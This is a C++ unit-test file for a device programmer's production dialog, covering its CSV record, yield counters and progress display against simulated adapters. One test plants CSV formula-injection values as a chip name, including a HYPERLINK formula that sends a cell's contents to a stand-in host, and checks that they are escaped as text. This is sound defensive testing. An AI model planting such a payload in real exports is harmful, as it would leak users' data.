// The production record, the yield counters and the progress band through the scripted view
// against in-process simulated adapters.
#include <gtest/gtest.h>

#include <filesystem>
#include <functional>

#include "app/control_ids.h"
#include "app/quorvel_dlg.h"
#include "brindlex/brindlex.h"
#include "programdata/string_table.h"
#include "support/fake_dialog_view.h"
#include "support/python_csv.h"
#include "support/writer_env.h"
#include "vexilsim/inproc_adapter.h"

namespace {

class ProductionTest : public ::testing::Test {
  protected:
    void SetUp() override {
        env_.WriteTrg({"QX16A064"});
        uint16_t found = 0;
        TRGINFO* set = ApiObj.ReadTargetInfoFile(93, found);
        std::vector<vexilsim::SimChip> chips(3, vexilsim::SimChip(set->entries[0]));
        ApiObj.DeleteTargetInfoSet(&set);
        bench_ = std::make_unique<vexilsim::SimBench>(chips, &VEXIL_INTERFACE_GUID);
        // The second board's flash cannot be erased block by block.
        bench_->adapter(1).InjectFault(vexilsim::CommandKind::kEraseBlock,
                                       vexilsim::Fault::Status(0x6305));
        const std::string file = env_.WriteFile("p.hex", HexFile(0x10, {0x12}));
        const std::string command = env_.WriteFile("run.cd8", "WRITE\nVERIFY\n");
        ini_ =
            "[Settings]\r\nFILENUM=1\r\nFILENAME0=" + file + "\r\nCOMFILENAME=" + command + "\r\n";
        env_.WriteIni(ini_ + "MODE=1\r\n");
    }
    void TearDown() override { ApiDelConnect(); }

    void Run(FakeDialogView& view, const std::function<void(CQuorvelDlg&, DialogEvents&)>& body) {
        CQuorvelDlg dialog(view, "Quorvel", env_.lock);
        view.actions.push_back([&](DialogEvents& e) { body(dialog, e); });
        dialog.DoModal();
    }

    // The record's rows as "operation target status".
    std::vector<std::string> Told() const {
        const auto rows = ReadCsvWithPython((env_.bin / "Quorvel-record.csv").string());
        std::vector<std::string> told;
        for (size_t i = 1; i < rows.size(); ++i)
            told.push_back(rows[i][2] + " " + rows[i][3] + " " + rows[i][9]);
        return told;
    }

    WriterEnv env_;
    std::unique_ptr<vexilsim::SimBench> bench_;
    std::string ini_;
};

TEST_F(ProductionTest, ACycleCountsEachBoardOnceRecordsItAndTheCountsSurviveARestart) {
    FakeDialogView view;
    Run(view, [&](CQuorvelDlg&, DialogEvents& e) {
        e.OnCommand(IDC_PROGRAM);
        EXPECT_EQ(view.Control(IDC_RESULT_EDIT).text, "FAILURE");
    });
    EXPECT_EQ(view.band.yieldText, "Passed 2   Failed 1   Yield 66.7 %");
    EXPECT_EQ(view.band.failsText, "Fails by target   2: 1");
    EXPECT_TRUE(view.band.lastCycleFailed);
    EXPECT_FALSE(view.band.progressShown);

    const auto rows = ReadCsvWithPython((env_.bin / "Quorvel-record.csv").string());
    ASSERT_EQ(rows.size(), 10u) << "the header, then Write, Verify and the cycle for 3 boards";
    EXPECT_EQ(rows[8][2], "Program");
    EXPECT_EQ(rows[8][9], "0x6305") << "the cycle names what failed the board first";

    // A restart shows the same counts; the menu resets them after asking.
    FakeDialogView again;
    Run(again, [&](CQuorvelDlg& dialog, DialogEvents& e) {
        EXPECT_EQ(again.band.yieldText, "Passed 2   Failed 1   Yield 66.7 %");
        EXPECT_TRUE(again.band.lastCycleFailed);
        again.messageAnswers = {IDCANCEL};
        e.OnCommand(ID_SETTING_RESET_YIELD);
        EXPECT_EQ(dialog.Band().counters().passed(), 2u);
        e.OnCommand(ID_SETTING_RESET_YIELD);
    });
    EXPECT_EQ(again.band.yieldText, "Passed 0   Failed 0   Yield --");
    EXPECT_TRUE(again.band.failsText.empty());
}

// A chip name an adapter reports and a target name are text to a spreadsheet, never formulas;
// the record's own numbers stay numbers.
TEST_F(ProductionTest, FieldsThatWouldRunAsFormulasAreReadBackAsText) {
    env_.WriteTrg({"-1+2"});  // the identity of QX16A064
    env_.WriteIni(ini_ + "TRGNAME=-1+2\r\n");
    const std::string link = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
    bench_->chip(0).setChipName(link);
    FakeDialogView view;
    Run(view, [&](CQuorvelDlg&, DialogEvents& e) {
        e.OnCommand(IDC_PLUG);
        e.OnCommand(IDC_ERASE_MEMORY);
    });
    const auto rows = ReadCsvWithPython((env_.bin / "Quorvel-record.csv").string());
    ASSERT_EQ(rows.size(), 4u);
    EXPECT_EQ(rows[1][5] + " " + rows[1][6], "'-1+2 '" + link);
    EXPECT_EQ(rows[2][6], bench_->chip(1).chipName()) << "a plain name stays as it was";
    EXPECT_EQ(rows[1][3] + " " + rows[1][9], "1 0x0000");
    EXPECT_EQ(rows[1][11].find_first_not_of("0123456789"), std::string::npos) << rows[1][11];
}

TEST_F(ProductionTest, WriteShowsItsBlocksWhileItRunsAndTheBandEmptiesWhenIdle) {
    env_.WriteIni(ini_);  // detail mode: Write, then its Verify
    FakeDialogView view;
    std::vector<ProductionBandState> seen;
    Run(view, [&](CQuorvelDlg& dialog, DialogEvents& e) {
        e.OnCommand(IDC_PLUG);
        for (int i = 0; i < 6; ++i)
            view.pumpActions.push_back([&](DialogEvents&) { seen.push_back(view.band); });
        e.OnCommand(IDC_WRITE);
        EXPECT_EQ(view.band.progressText, "") << "idle";
        // A Write with its Verify is one cycle: each board once.
        EXPECT_EQ(dialog.Band().counters().passed() + dialog.Band().counters().failed(), 3u);
    });
    ASSERT_EQ(seen.size(), 6u);
    EXPECT_FALSE(seen[0].progressShown) << "nothing is done before the first block";
    EXPECT_EQ(seen[3].progressText.substr(0, 20), "Write  block 3 / 16 ");
    EXPECT_EQ(seen[3].progressDone * 16, seen[3].progressTotal * 3);
}

TEST_F(ProductionTest, AnUnwritableRecordIsReportedOncePerOperationAndStopsNothing) {
    // A directory cannot take the record.
    env_.WriteIni(ini_ + "RECORDFILENAME=" + env_.root.string() + "\r\n");
    FakeDialogView view;
    Run(view, [&](CQuorvelDlg& dialog, DialogEvents& e) {
        e.OnCommand(IDC_PLUG);
        e.OnCommand(IDC_WRITE);
        EXPECT_EQ(view.messages.size(), 2u) << "one for the Write, one for its Verify";
        EXPECT_EQ(view.messages[1].text, FormatStringText(2101, env_.root.string()));
        EXPECT_EQ(bench_->chip(0).ByteAt(0x10), 0x12) << "the Write went on";
        e.OnCommand(IDC_PLUG);

        // Turned off, nothing is written and nothing reported.
        e.OnCommand(ID_SETTING_RECORD_ON);
        EXPECT_FALSE(view.menu[ID_SETTING_RECORD_ON].checked);
        EXPECT_EQ(env_.Key("RECORDFLG"), "0");
        e.OnCommand(IDC_PLUG);
        e.OnCommand(IDC_ERASE_MEMORY);
        EXPECT_EQ(view.messages.size(), 2u);

        // Chosen again, the record is on; an operation holds the menu.
        view.fileDialogAnswers = {(env_.root / "line 7.csv").string()};
        e.OnCommand(ID_SETTING_RECORD_FILE);
        EXPECT_EQ(env_.Key("RECORDFILENAME"), (env_.root / "line 7.csv").string());
        EXPECT_TRUE(view.menu[ID_SETTING_RECORD_ON].checked);
        dialog.SetBusyState(CQuorvelDlg::BusyKind(0));
        EXPECT_FALSE(view.menu[ID_SETTING_RECORD_FILE].enabled);
        dialog.SetIdleState(CQuorvelDlg::IdleState(0));
        e.OnCommand(IDC_ERASE_MEMORY);
    });
    EXPECT_EQ(ReadCsvWithPython((env_.root / "line 7.csv").string()).size(), 4u);
}

// A board's outcome is its first failure in the cycle, wherever it is told, and every adapter
// found is a board: here target 2's erase fails although its flash already holds the file (its
// Verify finds nothing), target 3 is another chip, and the counters' file cannot be written.
TEST_F(ProductionTest, ABoardThatFailedAnyStepOfItsCycleIsFailedEverywhere) {
    bench_->chip(1).Load(0x10, {0x12});
    bench_->chip(2).setIdentity(0x11111111, 0x00020400);
    std::filesystem::create_directory(env_.bin / "Quorvel-yield.ini");
    FakeDialogView view;
    Run(view, [&](CQuorvelDlg& dialog, DialogEvents& e) {
        e.OnCommand(IDC_PROGRAM);
        EXPECT_EQ(view.Control(IDC_RESULT_EDIT).text, "FAILURE");
        EXPECT_EQ(view.CountMessages(2105), 1);
        EXPECT_EQ(dialog.Band().counters().passed(), 1u);
        EXPECT_EQ(dialog.Band().counters().failed(), 2u);
    });
    EXPECT_EQ(Told(), (std::vector<std::string>{
                          "Write 1 0x0000", "Write 2 0x6305", "Verify 1 0x0000", "Verify 2 0x6305",
                          "Program 1 0x0000", "Program 2 0x6305", "Program 3 0x2002"}));
}

// A stopped cycle passes no board: the boards it left half done are recorded as stopped and
// nothing is counted.
TEST_F(ProductionTest, ACancelledCycleRecordsItsBoardsAsStoppedAndCountsNone) {
    FakeDialogView view;
    Run(view, [&](CQuorvelDlg& dialog, DialogEvents& e) {
        view.pumpActions = {[](DialogEvents&) {}, [](DialogEvents&) {},
                            [](DialogEvents& ev) { ev.OnCommand(IDC_CANCEL_OPERATION); }};
        e.OnCommand(IDC_PROGRAM);
        EXPECT_TRUE(dialog.StoppedByCancel());
        EXPECT_EQ(dialog.Band().counters().passed() + dialog.Band().counters().failed(), 0u);
    });
    EXPECT_EQ(Told(), (std::vector<std::string>{"Write 1 0x2007", "Write 2 0x6305",
                                                "Write 3 0x2007", "Program 1 0x2007",
                                                "Program 2 0x6305", "Program 3 0x2007"}));
}

// A Write refused before it took its numbers gave none: no row names a number a board never
// got, which a later board will get.
TEST_F(ProductionTest, ARefusedWriteRecordsNoSerialNumber) {
    env_.WriteIni(ini_ +
                  "MODE=1\r\nSERIALNUMFLG=1\r\nSERIALNUM=00000010\r\nSERIALNUMADDR=0x08000\r\n");
    // The numbers cannot be taken: the settings lock cannot be had.
    std::filesystem::create_directory(env_.bin / "Quorvel.ini.lock");
    FakeDialogView view;
    Run(view, [&](CQuorvelDlg&, DialogEvents& e) {
        e.OnCommand(IDC_PROGRAM);
        EXPECT_TRUE(view.Shows(2072));
    });
    const auto rows = ReadCsvWithPython((env_.bin / "Quorvel-record.csv").string());
    ASSERT_GT(rows.size(), 3u);
    for (size_t i = 1; i < rows.size(); ++i)
        EXPECT_EQ(rows[i][7], "") << rows[i][2] << " " << rows[i][3];
}

}  // namespace
